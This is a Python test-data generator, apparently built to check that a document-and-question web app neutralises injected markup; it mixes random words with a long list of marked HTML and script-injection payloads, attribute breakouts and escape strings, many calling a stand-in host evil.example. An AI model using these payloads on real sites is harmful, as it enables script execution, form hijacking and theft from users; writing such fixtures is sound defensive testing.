"""Documents and questions as somebody would write them who wants to run a script in the pages that show them."""

import random
from collections.abc import Sequence
from dataclasses import dataclass

MARK = "data-evil"                      # what every element of theirs carries
_ELSEWHERE = "https://evil.example/"
_RUN = f"window.ran=1;fetch('{_ELSEWHERE}')"
PAYLOADS = (
    f"<script {MARK}>{_RUN}</script>", f"<script {MARK} src={_ELSEWHERE}x.js></script>",
    f"<script {MARK} src=/static/style.css></script>",
    f"<img {MARK} src={_ELSEWHERE}x.png>", f"<img {MARK} src=x onerror=\"{_RUN}\">",
    f"<svg {MARK} onload=\"{_RUN}\"><animate onbegin=\"{_RUN}\" attributeName=x dur=1s></svg>",
    f"<iframe {MARK} src={_ELSEWHERE}></iframe>", f"<iframe {MARK} srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object {MARK} data={_ELSEWHERE}></object>", f"<embed {MARK} src={_ELSEWHERE}>",
    f"<base {MARK} href={_ELSEWHERE}>", f"<meta {MARK} http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<link {MARK} rel=stylesheet href={_ELSEWHERE}x.css>", f"<style {MARK}>@import '{_ELSEWHERE}x.css';</style>",
    f"<form {MARK} action={_ELSEWHERE} method=post><button>Yes</button></form>",
    f"</form><form {MARK} action=/leave method=post><input name=vote value=down>",
    f"<button {MARK} formaction={_ELSEWHERE} name=vote value=up>Yes</button>",
    f"<input {MARK} name=mark value=stolen form=question>", f"<textarea {MARK} name=question>",
    f"<a {MARK} href=\"javascript:{_RUN}\" autofocus onfocus=\"{_RUN}\">Open the original</a>",
    f"<details {MARK} open ontoggle=\"{_RUN}\">x</details>", f"<video {MARK}><source onerror=\"{_RUN}\"></video>",
    f"<div {MARK} hx-get={_ELSEWHERE} hx-trigger=load>x</div>", f"<div {MARK} hx-on::load=\"{_RUN}\">x</div>",
    f"<div {MARK} data-hx-post=/leave data-hx-trigger='load' data-events={_ELSEWHERE}>x</div>",
    f"<math {MARK}><mtext><mglyph><style><img {MARK} src=x onerror=\"{_RUN}\"></style></math>",
    f"<template {MARK}><img src={_ELSEWHERE}></template>", f"<body {MARK} onload=\"{_RUN}\">",
)  # fmt: skip
_OUT_OF = ("", '"', "'", '">', "'>", "</bdi>", "</textarea>", "</title>", "</style>", "-->", "<!--", "]]>", "`>", "\t>",
           "&lt;", "{{7*7}}", "{%raw%}", "%0d%0a", "\u202e", "\u2028", "\x07", "</mark></div>", "<!doctype html>")
_IN_AN_ATTRIBUTE = (f'" {MARK} autofocus onfocus="{_RUN}" x="', f"' {MARK} onmouseover='{_RUN}",
                    f"x {MARK} onload={_RUN}")
_WORDS = ("stripes", "zebra", "leave", "days", "annual", "policy", "holds", "seven", "manager", "form", "badge")


@dataclass(frozen=True)
class Hostile:
    """A document, and a question that finds it."""

    path: str
    text: str
    question: str
    reason: str


def hostile(drawn: random.Random) -> str:
    """Words with what would run among them."""
    payload = drawn.choice((*PAYLOADS, *_IN_AN_ATTRIBUTE))
    return f"{drawn.choice(_WORDS)} {drawn.choice(_OUT_OF)}{payload}{drawn.choice(_OUT_OF)} {drawn.choice(_WORDS)}"


def draw(drawn: random.Random, number: int) -> Hostile:
    topic = " ".join(drawn.sample(_WORDS, 3))
    name = hostile(drawn).replace("/", "\u2215").replace("\x07", "")[:150]
    text = (f"# {hostile(drawn)}\n\nPaper{number} says that {topic} {hostile(drawn)}\n\n## {hostile(drawn)}\n\n"
            f"It says of paper{number}: {topic}. {hostile(drawn)}\n")
    return Hostile(f"{number} {name}.md", text, f"What says paper{number} of {topic}? {hostile(drawn)}", hostile(drawn))


def drawn(seed: int, count: int) -> Sequence[Hostile]:
    chosen = random.Random(seed)
    return [draw(chosen, number) for number in range(count)]
